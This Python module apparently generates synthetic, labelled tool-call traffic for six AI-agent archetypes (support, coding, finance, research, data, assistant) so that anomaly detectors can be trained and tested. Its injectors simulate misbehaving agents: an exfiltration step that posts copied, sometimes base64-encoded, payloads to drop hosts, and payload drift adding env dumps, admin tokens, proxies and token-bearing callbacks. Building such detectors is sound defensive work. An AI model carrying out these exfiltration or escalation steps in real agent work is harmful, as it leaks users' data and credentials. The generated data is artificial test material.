        (_novel_coding_force_push, _novel_coding_protection),
        frozenset({"repo"}),
    ),
    _Archetype(
        _info(
            "finance",
            "accounts payable: page through open invoices, fetch 1-4, approve, quote and create a "
            "payment (high 12%, critical 3%), confirm, post to the ledger",
            "invoices.list invoices.get invoices.approve payments.quote payments.create "
            "payments.hold payments.confirm ledger.post",
            ("payments.hold by treasury instead of confirm + ledger (3%, priority high)",),
        ),
        _plan_finance,
        (_novel_finance_override, _novel_finance_payee),
        frozenset({"invoices", "ledger"}),
    ),
    _Archetype(
        _info(
            "research",
            "browsing agent: 1-3 rounds of web.search then 1-5 web.fetch, then a note written in "
            "1-4 appends (25% of runs at low priority)",
            "web.search web.fetch notes.create notes.append notes.link",
            ("web.fetch of a PDF with page extraction (4% of fetches)",),
        ),
        _plan_research,
        (_novel_research_share, _novel_research_download),
        frozenset({"web", "notes"}),
    ),
    _Archetype(
        _info(
            "data",
            "data agent: connect, run 1-4 queries whose results are id-keyed row maps "
            '({"ord_123": {...}}), maybe upsert, build and publish a report',
            "db.connect db.explain db.query db.upsert reports.build reports.publish",
            (
                "db.explain before querying (4%)",
                "empty result map (3% of queries)",
                "publish to exec (25%, mostly priority high)",
            ),
        ),
        _plan_data,
        (_novel_data_grant, _novel_data_export),
        frozenset({"db"}),
    ),
    _Archetype(
        _info(
            "assistant",
            "high-entropy personal assistant: a random walk of 4-14 calls over mail, calendar, "
            "files, chat and tasks; every call has several optional fields (40% each), so shapes "
            "vary a lot legitimately",
            " ".join(_ASSISTANT),
            ("mail.send, always right after mail.draft",),
        ),
        _plan_assistant,
        (_novel_assistant_share, _novel_assistant_forward),
        frozenset({"files", "mail"}),
    ),
)


def archetypes() -> tuple[ArchetypeInfo, ...]:
    """The agent archetypes, in the order agents are assigned to them (agent i → i mod 6)."""
    return tuple(
        dataclasses.replace(
            a.info,
            rare_branches=a.info.rare_branches + tuple(
                f"{action} with a '{key}' field (rare, recurring: ~{RARE_RATE / 2:.1%} of runs)"
                for action, key, _ in _RARE[a.info.name]
            ),
        )
        for a in _ARCHETYPES
    )


# --- anomaly injection --------------------------------------------------------------------------

_Injected = tuple[list[_Call], list[int]] | None


def _ordered_pairs(calls: Sequence[_Call]) -> list[tuple[int, int]]:
    """(i, j): a mandatory call and the next call of its service, when that is another step."""
    out: list[tuple[int, int]] = []
    for i, call in enumerate(calls):
        if not call.mandatory:
            continue
        service = _service(call.action)
        for j in range(i + 1, len(calls)):
            if _service(calls[j].action) == service:
                if calls[j].action != call.action:
                    out.append((i, j))
                break
    return out


def _inject_skip(rng: Random, arch: _Archetype, calls: list[_Call]) -> _Injected:
    pairs = _ordered_pairs(calls)
    if not pairs:
        return None
    i, j = rng.choice(pairs)
    return calls[:i] + calls[i + 1 :], [j - 1]


def _inject_swap(rng: Random, arch: _Archetype, calls: list[_Call]) -> _Injected:
    pairs = _ordered_pairs(calls)
    if not pairs:
        return None
    i, j = rng.choice(pairs)
    out = list(calls)
    out[i], out[j] = out[j], out[i]
    return out, [i]


def _inject_loop(rng: Random, arch: _Archetype, calls: list[_Call]) -> _Injected:
    spots = [k for k, c in enumerate(calls) if c.repeatable]
    if not spots:
        return None
    k = rng.choice(spots)
    c = calls[k]
    extra = [
        _Call(c.action, copy.deepcopy(c.payload), c.cost, c.priority)
        for _ in range(rng.randint(*_LOOP_EXTRA))
    ]
    return calls[: k + 1] + extra + calls[k + 1 :], list(range(k + 1, k + 1 + len(extra)))


def _inject_novel(rng: Random, arch: _Archetype, calls: list[_Call]) -> _Injected:
    for make in rng.sample(arch.novel, len(arch.novel)):
        call = make(rng)
        service = _service(call.action)
        spots = [k for k, c in enumerate(calls[:-1]) if _service(c.action) == service]
        if spots:
            k = rng.choice(spots)
            call.priority = calls[k].priority  # same chain as its neighbours
            return calls[: k + 1] + [call] + calls[k + 1 :], [k + 1]
    return None


def _inject_exfil(rng: Random, arch: _Archetype, calls: list[_Call]) -> _Injected:
    spots = [k for k, c in enumerate(calls[:-1]) if _service(c.action) in arch.exfil_sources]
    if not spots:
        return None
    k = rng.choice(spots)
    url = f"https://{rng.choice(_DROP_HOSTS)}/u/{_hex(rng, 12)}"
    if rng.random() < 0.5:
        body: Payload = {
            "url": url,
            "json": {"source": calls[k].action, "data": copy.deepcopy(calls[k].payload)},
        }
    else:
        blob = base64.b64encode(orjson.dumps(calls[k].payload)).decode()
        body = {
            "url": url,
            "content_b64": blob,
            "headers": {"content-type": "application/octet-stream"},
        }
    return calls[: k + 1] + [_Call("web.post", body, _cost(rng, 0.002))] + calls[k + 1 :], [k + 1]


_DRIFT: tuple[tuple[str, Callable[[Random], Any]], ...] = (
    ("debug", lambda r: {"trace": True, "dump_env": r.random() < 0.5}),
    ("auth_context", lambda r: {"token": _hex(r, 32), "scope": "admin"}),
    ("proxy", lambda r: {"host": f"198.51.100.{r.randrange(255)}", "port": 8080}),
    (
        "callback",
        lambda r: {
            "url": f"https://{r.choice(_DROP_HOSTS)}/cb",
            "headers": {"x-token": _hex(r, 16)},
        },
    ),
)


def _inject_drift(rng: Random, arch: _Archetype, calls: list[_Call]) -> _Injected:
    k = rng.randrange(len(calls))
    key, make = rng.choice(_DRIFT)
    out = list(calls)
    out[k] = dataclasses.replace(calls[k], payload={**calls[k].payload, key: make(rng)})
    return out, [k]


_INJECTORS: dict[str, Callable[[Random, _Archetype, list[_Call]], _Injected]] = {
    "novel_shape": _inject_novel,
    "exfiltration": _inject_exfil,
    "skipped_step": _inject_skip,
    "order_swap": _inject_swap,
    "loop_abuse": _inject_loop,
    "shape_drift": _inject_drift,
}
_KINDS = tuple(ANOMALY_KINDS)
assert set(_KINDS) == set(_INJECTORS)
_MAX_PLANS = 200
_ABOVE_NORMAL = frozenset(("high", "critical"))


# --- rare legitimate shapes that recur ----------------------------------------------------------

#: Share of runs (normal and anomalous alike, warm-up included) where one call carries a rare,
#: legitimate extra field. Each archetype has two such variants, so a variant is seen about once
#: per 200 runs: a few times (or not at all) during warm-up, then again later. Labelled false: a
#: detector that flags whatever it has seen only a few times pays for it in false positives.
RARE_RATE = 0.01

_RARE: dict[str, tuple[tuple[str, str, Callable[[Random], Any]], ...]] = {
    "support": (
        ("tickets.reply", "attachments",
         lambda r: [{"name": "screenshot.png", "size": r.randrange(10**6)}]),
        ("crm.lookup", "locale", lambda r: r.choice(("de", "fr", "ja"))),
    ),
    "coding": (
        ("repo.commit", "co_authors", lambda r: r.sample(_NAMES, 2)),
        ("ci.trigger", "retry_of", lambda r: _rid(r, "pl")),
    ),
    "finance": (
        ("payments.quote", "fx", lambda r: {"rate": round(r.uniform(0.8, 1.3), 4), "src": "ecb"}),
        ("invoices.approve", "escalated_by", lambda r: "controller"),
    ),
    "research": (
        ("web.search", "lang", lambda r: r.choice(("de", "fr", "es"))),
        ("notes.create", "template", lambda r: "literature-review"),
    ),
    "data": (
        ("db.query", "sample", lambda r: {"rate": r.choice((0.01, 0.1))}),
        ("reports.build", "compare_to", lambda r: "last_week"),
    ),
    "assistant": (
        ("calendar.create", "visibility", lambda r: "private"),
        ("mail.search", "include_spam", lambda r: True),
    ),
}


def _rare(rng: Random, arch: _Archetype, calls: list[_Call]) -> None:
    """With probability :data:`RARE_RATE`, give one call of the run its rare legitimate field."""
    if rng.random() >= RARE_RATE:
        return
    present = {c.action for c in calls}
    variants = [v for v in _RARE[arch.info.name] if v[0] in present]
    if not variants:
        return
    action, key, make = rng.choice(variants)
    call = next(c for c in calls if c.action == action)
    call.payload[key] = make(rng)


# --- runs and the merged stream -----------------------------------------------------------------

#: Agents ``6..11`` (and every other block of six) never set a priority above normal, as many
#: integrations never do; their chains never see a high-priority call.
NORMAL_ONLY_NOTE = "agents whose (number // 6) is odd send every call at normal (or low) priority"


def _priorities(number: int) -> str:
    return "normal" if (number // len(_ARCHETYPES)) % 2 == 1 else "mixed"


def _plan(rng: Random, arch: _Archetype, kind: str | None) -> tuple[list[_Call], list[int]]:
    """A workflow, with the anomaly injected; re-planned until the kind applies to the run."""
    for _ in range(_MAX_PLANS):
        calls = arch.plan(rng)
        _rare(rng, arch, calls)
        if kind is None:
            return calls, []
        injected = _INJECTORS[kind](rng, arch, calls)
        if injected is not None:
            return injected
    raise RuntimeError(f"{kind} never applies to {arch.info.name} runs (generator bug)")


def _agent_runs(cfg: TrafficConfig, number: int) -> Iterator[Run]:
    """The runs of agent ``number`` in order, each with its start time and event times."""
    arch = _ARCHETYPES[number % len(_ARCHETYPES)]
    agent_id = f"{arch.info.name}-{number // len(_ARCHETYPES) + 1}"
    profile = _priorities(number)
    rng = Random(f"ratchet-traffic:{cfg.seed}:{agent_id}")
    getrandbits, expovariate = rng.getrandbits, rng.expovariate
    start = cfg.start_ts + rng.uniform(0.0, 5.0)
    deck: list[str] = []  # kinds dealt from shuffled decks: every kind turns up evenly
    for index in range(cfg.runs_per_agent):
        kind = None
        if index >= cfg.warmup_runs and rng.random() < cfg.anomaly_rate:
            if not deck:
                deck = rng.sample(_KINDS, len(_KINDS))
            kind = deck.pop()
        calls, labelled = _plan(rng, arch, kind)
        run_id = f"{agent_id}-r{index:05d}"
        last, t, events = len(calls) - 1, start, []
        for k, c in enumerate(calls):
            events.append(
                {
                    "event_id": str(uuid.UUID(int=getrandbits(128), version=4)),
                    "agent_id": agent_id,
                    "run_id": run_id,
                    "service": _service(c.action),
                    "action": c.action,
                    "priority": (
                        "normal" if profile == "normal" and c.priority in _ABOVE_NORMAL
                        else c.priority
                    ),
                    "payload": c.payload,
                    "ts": round(t, 3),
                    "cost": c.cost,
                    "end_of_run": k == last,
                    "project_id": cfg.project_id,
                    "label": k in labelled,
                }
            )
            t += 0.05 + expovariate(1.25)  # tool latency plus model think time, mean ~0.85 s
        yield Run(agent_id, arch.info.name, run_id, index, kind, tuple(events), profile)
        # The next run may start before this one ends: real agents overlap their runs.
        start += (t - start) * rng.uniform(0.2, 1.6) + expovariate(0.5)


def _stream(cfg: TrafficConfig) -> Iterator[tuple[Run, dict[str, Any]]]:
    """(run, event) for every event, merged by time; ties keep a fixed order."""
    agents = [_agent_runs(cfg, n) for n in range(cfg.agents)]
    heap: list[tuple[float, int, Run, int, Iterator[Run]]] = []
    seq = 0
    for gen in agents:
        run = next(gen, None)
        if run is not None:
            heap.append((run.events[0]["ts"], seq, run, 0, gen))
            seq += 1
    heapq.heapify(heap)
    push, pop = heapq.heappush, heapq.heappop
    while heap:
        _, _, run, pos, gen = pop(heap)
        if pos == 0:  # this run has started: the agent's next run is now a candidate
            following = next(gen, None)
            if following is not None:
                push(heap, (following.events[0]["ts"], seq, following, 0, gen))
                seq += 1
        yield run, run.events[pos]
        if pos + 1 < len(run.events):
            push(heap, (run.events[pos + 1]["ts"], seq, run, pos + 1, gen))
            seq += 1


def iter_events(
    *,
    agents: int = 6,
    runs_per_agent: int = 300,
    warmup_runs: int = 100,
    anomaly_rate: float = 0.05,
    seed: int = 7,
    project_id: str = "demo",
    start_ts: float = DEFAULT_START_TS,
) -> Iterator[dict[str, Any]]:
    """Stream events of all agents merged by ``ts`` (runs interleave; each run stays in order).

    Agent ``i`` has archetype ``archetypes()[i % 6]`` and id ``<archetype>-<i // 6 + 1>``; its
    run ids are ``<agent_id>-r<index>``. Memory stays proportional to the open runs.
    """
    cfg = TrafficConfig(
        agents, runs_per_agent, warmup_runs, anomaly_rate, seed, project_id, start_ts
    )
    return (event for _, event in _stream(cfg))


def iter_runs(
    *,
    agents: int = 6,
    runs_per_agent: int = 300,
    warmup_runs: int = 100,
    anomaly_rate: float = 0.05,
    seed: int = 7,
    project_id: str = "demo",
    start_ts: float = DEFAULT_START_TS,
) -> Iterator[Run]:
    """The same runs as :func:`iter_events` (same events), whole, in order of their start."""
    cfg = TrafficConfig(
        agents, runs_per_agent, warmup_runs, anomaly_rate, seed, project_id, start_ts
    )
    gens = [_agent_runs(cfg, n) for n in range(cfg.agents)]
    return heapq.merge(*gens, key=lambda run: run.events[0]["ts"])


def generate(
    *,
    agents: int = 6,
    runs_per_agent: int = 300,
    warmup_runs: int = 100,
    anomaly_rate: float = 0.05,
    seed: int = 7,
    project_id: str = "demo",
    start_ts: float = DEFAULT_START_TS,
) -> list[dict[str, Any]]:
    """All events of :func:`iter_events`, as a list.

    >>> events = generate(agents=2, runs_per_agent=3, warmup_runs=3, seed=1)
    >>> sorted({e["agent_id"] for e in events}), sum(e["end_of_run"] for e in events)
    (['coding-1', 'support-1'], 6)
    >>> any(e["label"] for e in events)  # every run is still warming up
    False
    """
    cfg = TrafficConfig(
        agents, runs_per_agent, warmup_runs, anomaly_rate, seed, project_id, start_ts
    )
    return [event for _, event in _stream(cfg)]


# --- CLI ----------------------------------------------------------------------------------------


def _summary(
    events: int, runs: int, kinds: Counter[str], labelled: int, out: str, secs: float
) -> str:
    anomalous = sum(kinds.values())
    by_kind = " ".join(f"{k}={kinds[k]}" for k in _KINDS)
    rate = f"{events / secs:,.0f} events/s" if secs > 0 else "n/a"
    return (
        f"traffic: {events} events, {runs} runs, {anomalous} anomalous runs ({by_kind}), "
        f"{labelled} labelled events -> {out} in {secs:.2f}s ({rate})"
    )


_DESCRIPTION = "Write synthetic agent traffic with labelled anomalies as JSONL."


def main(argv: Sequence[str] | None = None) -> int:
    """``python -m ratchet.sandbox.traffic``: write the traffic as JSONL; a summary goes to stderr."""
    ap = argparse.ArgumentParser(prog="python -m ratchet.sandbox.traffic", description=_DESCRIPTION)
    ap.add_argument("--out", required=True, help="JSONL file to write ('-' for stdout)")
    ap.add_argument("--agents", type=int, default=6, help="number of agents (archetypes cycle)")
    ap.add_argument("--runs", type=int, default=300, help="runs per agent")
    ap.add_argument("--warmup", type=int, default=100, help="normal-only runs per agent first")
    ap.add_argument(
        "--anomaly-rate", type=float, default=0.05, help="share of later runs made anomalous"
    )
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--project", default="demo", help="project_id written into every event")
    ap.add_argument(
        "--start-ts", type=float, default=DEFAULT_START_TS, help="time of the first run (epoch s)"
    )
    args = ap.parse_args(argv)
    try:
        cfg = TrafficConfig(
            agents=args.agents,
            runs_per_agent=args.runs,
            warmup_runs=args.warmup,
            anomaly_rate=args.anomaly_rate,
            seed=args.seed,
            project_id=args.project,
            start_ts=args.start_ts,
        )
    except ConfigError as exc:
        ap.error(str(exc))
    started = time.perf_counter()
    events = runs = labelled = 0
    kinds: Counter[str] = Counter()
    with contextlib.ExitStack() as stack:
        sink = sys.stdout.buffer if args.out == "-" else stack.enter_context(open(args.out, "wb"))
        try:
            for run, event in _stream(cfg):
                sink.write(orjson.dumps(event) + b"\n")
                events += 1
                labelled += event["label"]
                if event["end_of_run"]:
                    runs += 1
                    if run.anomaly is not None:
                        kinds[run.anomaly] += 1
            sink.flush()
        except BrokenPipeError:  # `... --out - | head`: the reader left; stop quietly
            os.dup2(os.open(os.devnull, os.O_WRONLY), sys.stdout.fileno())
            return 1
    secs = time.perf_counter() - started
    print(_summary(events, runs, kinds, labelled, args.out, secs), file=sys.stderr)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
